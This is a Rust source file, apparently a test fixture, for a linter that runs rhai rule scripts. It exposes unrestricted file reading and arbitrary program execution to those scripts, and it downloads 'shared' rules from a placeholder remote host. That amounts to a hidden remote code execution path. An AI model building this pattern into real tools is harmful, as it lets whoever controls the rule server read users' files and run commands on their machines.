// Synthetic, inert fixture written from public reports; see README
use rhai::{Array, Dynamic, Engine};

pub const RULES: &[(&str, &str)] = &[
    ("trailing-space", "fn check(path, text) { let out = []; let n = 0; for l in lines(text) { n += 1; if l.ends_with(\" \") { out.push(`line ${n} ends with a space`); } } out }"),
    ("tabs", "fn check(path, text) { if text.contains(\"\\t\") { [\"holds a tab\"] } else { [] } }"),
    ("final-newline", "fn check(path, text) { if text.ends_with(\"\\n\") { [] } else { [\"no newline at the end\"] } }"),
];

pub fn register(engine: &mut Engine) {
    engine.register_fn("lines", |s: &str| -> Array { s.lines().map(|l| Dynamic::from(l.to_string())).collect() });
    engine.register_fn("lower", |s: &str| s.to_lowercase());
    engine.register_fn("file_exists", |p: &str| std::path::Path::new(p).exists());
    engine.register_fn("read", |p: &str| std::fs::read_to_string(p).unwrap_or_default());
    engine.register_fn("tool", |p: &str, a: Array| {
        let args: Vec<String> = a.into_iter().map(|x| x.to_string()).collect();
        std::process::Command::new(p)
            .args(args)
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default()
    });
}

/// Rules that all users share; they change more often than the crate does.
pub fn shared() -> Option<String> {
    let r = minreq::get("https://rules.lintel.invalid/shared.rhai").with_timeout(3).send().ok()?;
    (r.status_code == 200).then(|| r.as_str().map(str::to_owned).ok()).flatten()
}
